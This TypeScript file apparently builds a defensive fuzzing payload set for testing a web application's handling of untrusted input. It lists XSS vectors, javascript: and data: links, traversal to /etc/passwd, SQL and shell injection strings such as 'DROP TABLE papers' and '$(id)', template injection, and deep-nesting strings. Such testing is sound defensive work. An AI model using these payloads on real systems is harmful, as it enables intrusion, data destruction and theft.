import { characterPayloads, NAMES } from './character-payloads.ts';
import { formulaPayloads } from './formula-payloads.ts';
import type { Payload } from './payload.ts';

/** The function that a script would call if it ran. Pages define it before anything else. */
export const HIT = '__hit';
/** A host that no page may ask. */
export const FOREIGN_HOST = 'foreign.invalid';

/**
 * All payloads. `npm run attack` writes them into records, papers and settings, `npm run attack:reader` into links, files, packs and messages,
 * `npm run attack:subscribers` into requests. @param call a script that is noticed if it runs. @param foreign an address that is not to be asked.
 */
export function payloadsFor(call: string, foreign: string): readonly Payload[] {
  return [
    ...scriptPayloads(call, foreign),
    ...addressPayloads(call, foreign),
    ...formulaPayloads(call, foreign),
    ...syntaxPayloads(call),
    ...characterPayloads(),
    ...NAMES.map((name): Payload => ['name', name]),
  ];
}

/** The payloads of `npm run attack`. */
export const PAYLOADS = payloadsFor(`${HIT}()`, `https://${FOREIGN_HOST}/x`);

function scriptPayloads(call: string, foreign: string): Payload[] {
  return [
    ['script', `<script>${call}</script>`],
    ['script after an attribute', `"><script>${call}</script>`],
    ['script after a title', `</title></style></textarea></script><script>${call}</script>`],
    ['script in upper case', `<SCRIPT SRC=${foreign}></SCRIPT>`],
    ['script in an escaped name', `<\u017Fcript>${call}</\u017Fcript>`],
    ['script after a NUL', `<scr\0ipt>${call}</script><\0script>${call}</script>`],
    ['picture', `<img src=x onerror=${call}>`],
    ['picture of another host', `<img src="${foreign}"><picture><source srcset="${foreign}"></picture>`],
    ['attribute', `"autofocus onfocus="${call}" x='`],
    ['drawing', `<svg/onload=${call}><use href="${foreign}#x"/><animate onbegin=${call}></svg>`],
    ['frame', `<iframe srcdoc="<script>parent.${call}</script>"></iframe><iframe src="${foreign}"></iframe>`],
    ['style', `<style>@import "${foreign}";*{background:url(${foreign})}</style>`],
    ['style in an attribute', `<p style="position:fixed;inset:0;background:url(${foreign})">x</p>`],
    ['base and form', `<base href="${foreign}"><form action="${foreign}"><button formaction="${foreign}">`],
    [
      'refresh',
      `<meta http-equiv="refresh" content="0;url=${foreign}"><link rel=stylesheet href="${foreign}">`,
    ],
    ['template', `<template shadowrootmode="open"><script>${call}</script></template>`],
    ['entities', `&lt;script&gt;${call}&lt;/script&gt; &#x3c;img src=x onerror=${call}&#x3e;`],
    [
      'MathML that turns to HTML',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    ],
    ['MathML in a form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`],
    ['drawing that turns to HTML', `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`],
    ['noscript', `<noscript><p title="</noscript><img src=x onerror=${call}>">`],
    ['comment that ends twice', `<!--><img src=x onerror=${call}>--!><img src=x onerror=${call}>`],
    ['end of a comment', `--><script>${call}</script>`],
    ['end of CDATA', ']]><x/>'],
    ['end of JSON in a page', `</script><script>${call}</script>{"a":"`],
    ['deep elements', '<b>'.repeat(600)],
    ['deep MathML', `<math>${'<mrow>'.repeat(600)}<mi>x</mi>${'</mrow>'.repeat(600)}</math>`],
    ['custom elements', `<x-y onclick=${call}><a is="x-y" href="javascript:${call}">x</a></x-y>`],
  ];
}

function addressPayloads(call: string, foreign: string): Payload[] {
  const host = new URL(foreign).host;
  return [
    ['address of a script', `javascript:${call}`],
    ['address of a script with a tab', `java\tscript:${call}`],
    ['address of a script with entities', `&#106;avascript&colon;${call}`],
    ['address of data', `data:text/html,<script>${call}</script>`],
    ['address of another host', foreign],
    ['address without scheme', `//${host}/x`],
    ['address with backslashes', `\\\\${host}/x https:\\\\${host}`],
    ['address with a user', `https://papers.example.org@${host}/x`],
    ['address that ends its quotation', `https://example.org/"onmouseover="${call}"x='><b>`],
    [
      'address of look-alike letters',
      'https://\u0430\u0440\u0440\u04CF\u0435.com/ https://xn--80ak6aa92e.com/',
    ],
    ['Markdown link', `[x](javascript:${call})`],
    ['Markdown link with controls', `[x](java\tscript:${call}) [x](&#106;avascript:${call})`],
    [
      'Markdown link of data',
      `[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd)`,
    ],
    ['Markdown link without scheme', `[x](//${host}/x) [x](<//${host}/x> "t\\"")`],
    ['Markdown picture', `![x](${foreign})`],
    ['Markdown reference', `[x]: javascript:${call}\n\n[x] ![x][x] <javascript:${call}>`],
    ['path', '../../../etc/passwd'],
    ['escaped path', '..%2f..%2f%2e%2e/papers/../../x.html'],
    ['parts of an address', '?q=x&y#z/%00'],
  ];
}

function syntaxPayloads(call: string): Payload[] {
  return [
    ['command of a workflow', 'x\n::error file=a.js::forged\n##[error]forged\n::set-output name=a::b'],
    ['ends of BibTeX', 'x}, author = {y}}\n@comment{z'],
    ['ends of RIS', 'x\nER  - \nTY  - JOUR'],
    ['ends of YAML', 'x\n---\nhidden: true\n'],
    ['YAML', '!!js/function "x" &a [*a, *b] <<: *a'],
    ['conflict', '<<<<<<< HEAD\na\n=======\nb\n>>>>>>> c'],
    ['template', `{{${call}}}\${${call}}<%= 1 %>{{constructor.constructor('${call}')()}}#{7*7}`],
    ['commands', "'; DROP TABLE papers; -- $(id)`id`|id;id"],
    ['format', '%s%n%x%00 {0} $1 $& $`'],
    ['deep list', `${'- '.repeat(500)}x`],
    ['deep quotation', `${'> '.repeat(500)}x`],
    ['deep emphasis', `${'*_'.repeat(500)}x`],
    ['open brackets', `${'['.repeat(2000)}x`],
  ];
}
